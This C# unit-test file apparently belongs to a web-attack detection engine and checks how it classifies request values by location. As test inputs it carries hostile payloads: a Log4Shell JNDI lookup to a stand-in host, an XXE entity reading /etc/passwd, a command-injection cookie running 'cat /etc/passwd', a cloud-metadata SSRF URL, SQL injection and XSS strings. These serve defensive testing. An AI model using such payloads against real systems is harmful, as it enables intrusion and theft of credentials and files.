using InfiniteSecurity.Detection.Requests;
using static InfiniteSecurity.Detection.UnitTests.Requests.RawRequests;

namespace InfiniteSecurity.Detection.UnitTests.Requests;

[TestFixture]
public sealed class RequestInspectorTests
{
    private static readonly RequestInspector Inspector = new(AnalyzerFactory.Shared);

    private static RequestVerdict Inspect(HttpRequestData request, params DetectionExclusion[] exclusions) => Inspector.Inspect(request, exclusions);

    private static string Q(string s) => Uri.EscapeDataString(s);

    [Test]
    public void Ordinary_browser_request_is_benign()
    {
        var v = Inspect(Get("/catalogue/lamps?page=2&sort=price", "Referer: https://shop.example.test/", "Cookie: sid=4f9a; theme=dark", "Accept-Language: en-GB,en;q=0.9"));
        Assert.Multiple(() =>
        {
            Assert.That(v.Analysis.IsThreat, Is.False);
            Assert.That(v.Findings, Is.Empty);
            Assert.That(v.ValuesInspected, Is.GreaterThan(5));
        });
    }

    [Test]
    public void A_url_in_an_ordinary_parameter_is_no_redirect_but_in_next_it_is()
    {
        const string target = "//evil.example.net/login";
        Assume.That(AnalyzerFactory.Shared.Analyze(target).Category, Is.EqualTo(ThreatCategory.OpenRedirect), "the engine alone calls this a redirect");
        var from = Inspect(Get("/article?from=" + Q(target)));
        var next = Inspect(Get("/login?next=" + Q(target)));
        Assert.Multiple(() =>
        {
            Assert.That(from.Analysis.IsThreat, Is.False);
            Assert.That(from.Excluded.Select(e => (e.Location, e.ExcludedBy)), Has.Member(("query:from", "context:redirect-target-only")));
            Assert.That(next.Analysis.Category, Is.EqualTo(ThreatCategory.OpenRedirect));
            Assert.That(next.Findings[0].Location, Is.EqualTo("query:next"));
        });
    }

    [TestCase("returnUrl")]
    [TestCase("redirect_uri")]
    [TestCase("return_to")]
    [TestCase("continue")]
    [TestCase("RelayState")]
    public void Redirect_target_names_are_recognised_by_their_words(string name) =>
        Assert.That(Inspect(Get($"/sso?{name}=" + Q("//evil.example.net/"))).Analysis.Category, Is.EqualTo(ThreatCategory.OpenRedirect));

    [Test]
    public void A_redirect_back_into_the_same_site_is_not_an_open_redirect()
    {
        var v = Inspect(Get("/login?next=" + Q("//account.example.test/settings"), "Host: www.example.test"));
        Assert.That(v.Analysis.IsThreat, Is.False);
    }

    [Test]
    public void A_newline_in_a_json_string_is_not_header_injection_but_an_encoded_one_in_a_query_is()
    {
        const string multiLine = "Thanks for the lamp\r\nSet-Cookie: ticket=1";
        Assume.That(AnalyzerFactory.Shared.Analyze(multiLine).Category, Is.EqualTo(ThreatCategory.CrlfInjection), "the engine alone calls this CRLF");
        var json = Inspect(Post("/api/reviews", "application/json", "{\"review\":\"Thanks for the lamp\\r\\nSet-Cookie: ticket=1\"}"));
        var query = Inspect(Get("/lang?set=" + Q("en%0d%0aSet-Cookie: ticket=1")));
        Assert.Multiple(() =>
        {
            Assert.That(json.Analysis.IsThreat, Is.False);
            Assert.That(json.Excluded.Select(e => e.ExcludedBy), Has.Member("context:multi-line-body-value"));
            Assert.That(query.Analysis.Category, Is.EqualTo(ThreatCategory.CrlfInjection));
            Assert.That(query.Findings[0].Location, Is.EqualTo("query:set"));
        });
    }

    [Test]
    public void An_encoded_break_inside_a_json_string_still_counts()
    {
        var v = Inspect(Post("/api/prefs", "application/json", "{\"lang\":\"en%0d%0aSet-Cookie: ticket=1\"}"));
        Assert.That((v.Analysis.Category, v.Findings[0].Location), Is.EqualTo((ThreatCategory.CrlfInjection, "body:$.lang")));
    }

    [Test]
    public void A_multi_line_textarea_in_a_form_is_not_header_injection()
    {
        var v = Inspect(Post("/contact", "application/x-www-form-urlencoded", "message=" + Q("Hello,\r\nI would like a quote.\r\nRegards, Ann")));
        Assert.That(v.Analysis.IsThreat, Is.False);
    }

    [Test]
    public void A_double_encoded_break_in_a_cookie_is_a_crlf_probe_that_can_reach_a_header()
    {
        const string probe = "%250d%250a";
        var v = Inspect(Get("/", $"Cookie: lang={Q(probe)}"));
        Assert.Multiple(() =>
        {
            Assert.That(v.Analysis.Category, Is.EqualTo(ThreatCategory.CrlfInjection));
            Assert.That(v.Findings[0].Location, Is.EqualTo("cookie:lang"));
        });
    }

    [Test]
    public void Referer_filled_by_the_browser_is_not_checked_for_ssrf_but_a_parameter_is()
    {
        const string metadata = "http://169.254.169.254/latest/meta-data/";
        var referer = Inspect(Get("/", $"Referer: {metadata}"));
        var parameter = Inspect(Get("/fetch?src=" + Q(metadata)));
        Assert.Multiple(() =>
        {
            Assert.That(referer.Analysis.IsThreat, Is.False);
            Assert.That(parameter.Analysis.Category, Is.EqualTo(ThreatCategory.Ssrf));
        });
    }

    [Test]
    public void User_agent_is_checked_for_log4shell_and_sql_injection()
    {
        Assert.Multiple(() =>
        {
            Assert.That(Inspect(Get("/", "X-Api-Version: ${jndi:ldap://x.example.net/a}")).Analysis.Category, Is.EqualTo(ThreatCategory.Log4Shell));
            var ua = Inspect(Request("GET", "/", null, string.Empty, "Referer: https://shop.example.test/?q=1' OR '1'='1"));
            Assert.That(ua.Analysis.Category, Is.EqualTo(ThreatCategory.SqlInjection));
            Assert.That(ua.Findings[0].Location, Is.EqualTo("header:Referer"));
        });
    }

    [Test]
    public void Browser_headers_are_not_checked_for_families_that_do_not_fit_them()
    {
        var v = Inspect(Get("/", "Accept-Language: //evil.example.net/"));
        Assert.That(v.Analysis.IsThreat, Is.False);
    }

    [Test]
    public void Json_keys_with_query_operators_or_prototype_names_are_found_at_the_key()
    {
        var nosql = Inspect(Post("/api/login", "application/json", "{\"user\":\"ann\",\"password\":{\"$ne\":\"x\"}}"));
        var proto = Inspect(Post("/api/profile", "application/json", "{\"settings\":{\"__proto__\":{\"isAdmin\":true}}}"));
        Assert.Multiple(() =>
        {
            Assert.That(nosql.Analysis.Category, Is.EqualTo(ThreatCategory.NoSqlInjection));
            Assert.That(nosql.Findings.Select(f => f.Location), Has.Member("body-key:$.password.$ne"));
            Assert.That(proto.Analysis.Category, Is.EqualTo(ThreatCategory.PrototypePollution));
            Assert.That(proto.Findings.Select(f => f.Location), Has.Member("body-key:$.settings.__proto__"));
        });
    }

    [Test]
    public void Xml_body_is_judged_as_a_document_for_external_entities()
    {
        var v = Inspect(Post("/soap", "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><r>&e;</r>"));
        Assert.That((v.Analysis.Category, v.Findings[0].Location), Is.EqualTo((ThreatCategory.Xxe, "body")));
    }

    [Test]
    public void A_mixed_request_reports_the_right_location_for_each_finding()
    {
        var request = Request("POST", "/orders?id=" + Q("1' OR '1'='1"), "application/json",
            "{\"note\":\"<script>alert(1)</script>\",\"ship\":{\"city\":\"Leeds\"}}",
            "X-Forwarded-For: ${jndi:ldap://x.example.net/a}", "Cookie: sid=ab; pref=" + Q("; cat /etc/passwd"));
        var v = Inspect(request);
        var byLocation = v.Findings.GroupBy(f => f.Location).ToDictionary(g => g.Key, g => g.Select(f => f.Finding.Category).ToHashSet());
        Assert.Multiple(() =>
        {
            Assert.That(byLocation["query:id"], Does.Contain(ThreatCategory.SqlInjection));
            Assert.That(byLocation["body:$.note"], Does.Contain(ThreatCategory.Xss));
            Assert.That(byLocation["header:X-Forwarded-For"], Does.Contain(ThreatCategory.Log4Shell));
            Assert.That(byLocation["cookie:pref"], Does.Contain(ThreatCategory.CommandInjection));
            Assert.That(byLocation.Keys, Does.Not.Contain("body:$.ship.city"));
            Assert.That(v.Analysis.IsThreat, Is.True);
            Assert.That(v.Analysis.Findings[0], Is.EqualTo(v.Findings.First(f => f.Finding.Category == v.Analysis.Category).Finding), "the winning location's findings come first");
        });
    }

    [Test]
    public void Verdict_takes_the_strongest_location_and_its_severity_from_the_policy()
    {
        var v = Inspect(Get("/a?x=" + Q("<script>alert(1)</script>") + "&y=" + Q("//evil.example.net/")));
        Assert.Multiple(() =>
        {
            Assert.That(v.Analysis.Category, Is.EqualTo(ThreatCategory.Xss));
            Assert.That(v.Analysis.Severity, Is.EqualTo(new DecisionPolicy(new DecisionPolicyOptions()).SeverityFor(v.Analysis.Confidence)));
            Assert.That(v.Analysis.RiskScore, Is.EqualTo((int)Math.Round(v.Analysis.Confidence * 99)));
        });
    }

    [Test]
    public void Problems_are_reported_and_do_not_stop_the_rest_of_the_request()
    {
        var v = Inspect(Post("/api?q=" + Q("<script>alert(1)</script>"), "application/json", "{broken"));
        Assert.Multiple(() =>
        {
            Assert.That(v.Problems, Has.Some.Contains("malformed JSON"));
            Assert.That(v.Analysis.Category, Is.EqualTo(ThreatCategory.Xss));
        });
    }
}
